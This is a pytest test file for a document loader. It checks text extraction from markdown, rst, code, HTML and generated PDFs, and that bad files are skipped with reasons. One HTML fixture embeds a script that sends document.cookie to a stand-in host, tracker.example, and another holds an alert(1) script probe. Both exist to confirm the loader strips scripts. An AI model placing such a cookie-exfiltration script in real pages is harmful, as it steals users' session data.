"""Loading files for ingestion: supported kinds, and a reason (never an exception) for bad files."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from maestro.retrieval.loaders import Document, Skipped, document_kind, html_to_text, load_document


def _write(path: Path, data: str | bytes) -> Path:
    if isinstance(data, str):
        path.write_text(data, encoding="utf-8")
    else:
        path.write_bytes(data)
    return path


def test_markdown_rst_text_and_code(tmp_path: Path) -> None:
    md = load_document(_write(tmp_path / "guide.md", "# Guide\r\n\r\nInstall with pip.\r\n"))
    assert md == Document(text="# Guide\n\nInstall with pip.\n", kind="markdown")
    rst = load_document(_write(tmp_path / "index.rst.txt", "Title\n=====\n\nBody.\n"))
    assert isinstance(rst, Document) and rst.kind == "rst"
    txt = load_document(_write(tmp_path / "notes.txt", "\ufeffplain notes\n"))
    assert txt == Document(text="plain notes\n", kind="text")  # the BOM is dropped
    code = load_document(_write(tmp_path / "server.go", "package main\n\nfunc main() {}\n"))
    assert code == Document(text="package main\n\nfunc main() {}\n", kind="code", language="go")
    assert document_kind(Path("app.PY")) == ("code", "python")
    assert document_kind(Path("README")) == ("text", None)
    assert document_kind(Path("photo.jpeg")) is None


def test_html_keeps_headings_and_drops_scripts(tmp_path: Path) -> None:
    page = """<!doctype html><html><head><title>Docs</title><style>body{color:red}</style></head>
    <body><nav><a href="/">Home</a></nav>
    <h1>Retry policy</h1><p>Requests are retried <b>three</b> times &amp; then fail.</p>
    <script>fetch('https://tracker.example/?q=' + document.cookie)</script>
    <h2>Backoff</h2><pre>delay = base * 2 ** attempt
    sleep(delay)</pre><ul><li>jitter</li><li>cap</li></ul></body></html>"""
    doc = load_document(_write(tmp_path / "retry.html", page))
    assert isinstance(doc, Document) and doc.kind == "html"
    assert "# Retry policy" in doc.text and "## Backoff" in doc.text
    assert "Requests are retried three times & then fail." in doc.text
    assert "tracker" not in doc.text and "color:red" not in doc.text
    assert "```\ndelay = base * 2 ** attempt\n    sleep(delay)\n```" in doc.text
    assert html_to_text("<p>unclosed <b>markup") == "unclosed markup\n"


@pytest.mark.parametrize(
    ("name", "data", "code", "fragment"),
    [
        ("empty.md", b"", "empty", "empty file"),
        ("blank.txt", b"  \n\t\n", "empty", "whitespace only"),
        ("blob.txt", b"abc\x00\x01\x02def", "binary", "NUL bytes"),
        ("latin1.md", "café olé".encode("latin-1"), "encoding", "not valid UTF-8: byte 0xe9 at offset 3"),
        ("image.png", b"\x89PNG\r\n\x1a\n", "unsupported", "unsupported file type '.png'"),
        ("report.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "corrupt", "corrupt PDF"),
        ("fake.pdf", b"hello", "corrupt", "no %PDF- header"),
        ("only-scripts.html", b"<script>alert(1)</script>", "empty", "no text content"),
    ],
)
def test_bad_files_are_skipped_with_a_reason(
    tmp_path: Path, name: str, data: bytes, code: str, fragment: str
) -> None:
    result = load_document(_write(tmp_path / name, data))
    assert isinstance(result, Skipped)
    assert result.code == code
    assert fragment in result.reason


def test_huge_missing_and_unreadable_files(tmp_path: Path) -> None:
    big = _write(tmp_path / "big.md", "x" * 2000)
    result = load_document(big, max_bytes=1000)
    assert isinstance(result, Skipped) and result.code == "too_large"
    assert "2,000 bytes, over the 1,000-byte limit" in result.reason
    missing = load_document(tmp_path / "nope.md")
    assert isinstance(missing, Skipped) and missing.code == "not_a_file"
    assert isinstance(load_document(tmp_path), Skipped)  # a directory
    if os.geteuid() != 0:  # root reads anything
        locked = _write(tmp_path / "locked.md", "secret")
        locked.chmod(0)
        result = load_document(locked)
        assert isinstance(result, Skipped) and result.code == "unreadable"


def _text_pdf(lines: list[str]) -> bytes:
    """A minimal real PDF with one page of Helvetica text (what a report generator writes)."""
    content = "BT /F1 12 Tf 72 720 Td 14 TL " + " ".join(f"({line}) Tj T*" for line in lines) + " ET"
    objects = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        "/Resources << /Font << /F1 5 0 R >> >> >>",
        f"<< /Length {len(content)} >>\nstream\n{content}\nendstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = b"%PDF-1.4\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode()
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += "".join(f"{offset:010d} 00000 n \n" for offset in offsets).encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return out


def test_pdf_text_is_extracted(tmp_path: Path) -> None:
    path = tmp_path / "guide.pdf"
    path.write_bytes(_text_pdf(["Adding a provider", "Edit router/catalog.yaml and set the key."]))
    loaded = load_document(path)
    assert isinstance(loaded, Document) and loaded.kind == "pdf"
    assert "Adding a provider" in loaded.text and "catalog.yaml" in loaded.text


def test_pdf_without_text_is_skipped(tmp_path: Path) -> None:
    path = tmp_path / "scan.pdf"
    path.write_bytes(_text_pdf([]))
    loaded = load_document(path)
    assert isinstance(loaded, Skipped) and loaded.code == "empty"
